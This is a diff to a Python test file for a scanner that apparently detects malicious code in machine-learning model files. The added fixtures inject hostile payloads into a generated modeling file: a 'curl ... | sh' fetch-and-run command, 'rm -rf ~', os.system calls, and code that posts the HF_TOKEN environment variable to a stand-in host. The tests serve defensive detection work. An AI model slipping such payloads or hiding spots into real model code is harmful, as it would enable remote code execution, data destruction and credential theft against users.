@@ -22,6 +22,7 @@ from malhug.analyzers.scripts.engine import analyze_code
 from malhug.core.model import Category
 from tests.scripts.benign_sources import BENIGN
 from tests.scripts.corpus_scripts import CORPUS_SCRIPTS
+from tests.scripts.modeling_source import modeling_file
 from tests.scripts.test_embedded import PYTHON_CASES, SHELL_CASES
 from tests.scripts.test_flows import CASES as FLOWS
 from tests.scripts.test_rules import BENIGN as RULE_BENIGN
@@ -86,7 +87,7 @@ def test_fixtures_glued_together_give_the_same_findings_pruned(seed: int) -> Non
 
 def _pruned(code: str) -> str:
     result = relevance.prune(code, ast.parse(code))
-    return code if result is None else result[0]
+    return code if result.text is None else result.text
 
 
 MODELING = textwrap.dedent(
@@ -133,7 +134,7 @@ def test_inert_modeling_code_is_blanked_and_lines_keep_their_numbers() -> None:
     assert pruned.count("\n") == MODELING.count("\n")
     original, kept = MODELING.splitlines(), pruned.splitlines()
     for before, after in zip(original, kept, strict=True):
-        assert after in (before, "") or after.strip() == "pass"
+        assert after in (before, "") or after.strip() in ("pass", '"""')
     # The model class reads the environment: kept, with the method that uses what __init__ stored.
     assert 'os.environ.get("MODEL_CACHE", "/tmp")' in pruned
     assert 'os.path.join(self.cache_dir, "weights.bin")' in pruned
@@ -143,13 +144,29 @@ def test_inert_modeling_code_is_blanked_and_lines_keep_their_numbers() -> None:
     assert _same(MODELING) == []
 
 
-def test_a_class_left_without_methods_keeps_a_pass() -> None:
+def test_a_class_left_without_methods_keeps_a_statement_on_the_same_lines() -> None:
     code = "import os\n\nclass A:\n    def f(self):\n        return 1\n\n    def g(self):\n        return os.getcwd()\n"
     _same(code)
-    code = "import torch\n\nclass A(torch.nn.Module):\n\tdef f(self):\n\t\treturn 1\n\nA.cmd = 1\n"
+    code = (
+        "import os\n\nclass A(object):\n\tdef f(self):\n\t\treturn 1\n\tdef g(self): return 2\n\nA.cmd = os.getcwd()\n"
+    )
     pruned = _pruned(code)
-    assert "\tpass" in pruned or "class A" not in pruned
-    compile(pruned, "<pruned>", "exec", flags=ast.PyCF_ONLY_AST)
+    assert pruned.splitlines()[3:6] == ['\t"""', '"""', "\tpass"]
+    compile(pruned, "<pruned>", "exec", flags=ast.PyCF_ONLY_AST)  # parsed only, never run
+
+
+@pytest.mark.parametrize("name", sorted(SAMPLES)[:40])
+def test_the_depth_measured_while_pruning_is_the_parsers(name: str) -> None:
+    from malhug.analyzers.scripts import parsing
+
+    tree = ast.parse(SAMPLES[name])
+    assert relevance.prune(SAMPLES[name], tree).depth == parsing._max_depth(tree)
+
+
+def test_too_deep_code_is_still_refused_with_pruning() -> None:
+    code = "import os\nx = 1" + " + 1" * 400 + "\n"  # deeper than MAX_NESTING, within CPython's limits
+    result = analyze_code(code)
+    assert result.module is None and result.incomplete is not None
 
 
 FLOWS_THROUGH_INERT_CODE = {
@@ -282,7 +299,7 @@ def test_the_constant_from_an_inert_method_still_decides_the_category() -> None:
 
 def test_star_imports_keep_everything() -> None:
     code = "from os import *\n\ndef f():\n    return 1\n\ndef g():\n    system('id')\n"
-    assert relevance.prune(code, ast.parse(code)) is None
+    assert relevance.prune(code, ast.parse(code)).text is None
 
 
 def test_statements_sharing_a_line_are_kept_together() -> None:
@@ -357,3 +374,67 @@ def test_embedded_inert_payload_is_judged_without_importing_libcst() -> None:
         """
     )
     subprocess.run([sys.executable, "-c", code], check=True, timeout=120)
+
+
+# A 2,000-line modeling file, clean and with payloads hidden at the places remote code hides them.
+_MODEL = modeling_file(2000)
+_INJECTIONS: dict[str, list[tuple[str, str]]] = {  # (text, what replaces it), first occurrence
+    "clean": [],
+    "constant stored in __init__, run in forward": [
+        (
+            "        self.act_fn = ACT2FN[config.hidden_act]\n",
+            '        self.act_fn = ACT2FN[config.hidden_act]\n        self.hook = "curl http://127.0.0.1/x | sh"\n',
+        ),
+        (
+            "        return self.down_proj(self.act_fn(self.gate_proj(x)) * self.up_proj(x))\n",
+            "        os.system(self.hook)\n        return self.down_proj(x)\n",
+        ),
+    ],
+    "weight init runs a command": [
+        ("        std = self.config.initializer_range\n", "        __import__('os').system('id')\n        std = 1\n"),
+    ],
+    "helper returns the command": [
+        ('    """Rotates half the hidden dims of the input."""\n', '    return "rm -rf ~"\n'),
+        (
+            "        bsz, q_len, _ = hidden_states.size()\n",
+            "        os.popen(tiny_rotate_half(None))\n        bsz = q_len = 1\n",
+        ),
+    ],
+    "token sent from a mask helper": [
+        (
+            "        bsz, tgt_len = input_shape\n",
+            "        bsz, tgt_len = input_shape\n        self.leak(os.environ.get('HF_TOKEN'))\n",
+        ),
+        (
+            "    def get_input_embeddings(self):\n",
+            "    def leak(self, value):\n        _post(value)\n\n    def get_input_embeddings(self):\n",
+        ),
+        (
+            "_CONFIG_FOR_DOC = ",
+            "def _post(v):\n    import requests\n\n    requests.post('https://127.0.0.1/c', data=v)\n\n\n_CONFIG_FOR_DOC = ",
+        ),
+    ],
+}
+
+
+def _inject(name: str) -> str:
+    code = _MODEL
+    for old, new in _INJECTIONS[name]:
+        assert old in code, old
+        code = code.replace(old, new, 1)
+    assert analyze_code(code).syntax_errors == []
+    return code
+
+
+@pytest.mark.parametrize("name", sorted(_INJECTIONS))
+def test_modeling_file_findings_are_the_same_pruned(name: str) -> None:
+    code = _inject(name)
+    findings = _same(code)
+    assert bool(findings) is (name != "clean"), findings
+
+
+def test_most_of_a_modeling_file_is_blanked() -> None:
+    pruned = _pruned(_MODEL)
+    kept = sum(1 for line in pruned.splitlines() if line.strip())
+    total = sum(1 for line in _MODEL.splitlines() if line.strip())
+    assert kept < total // 5, (kept, total)
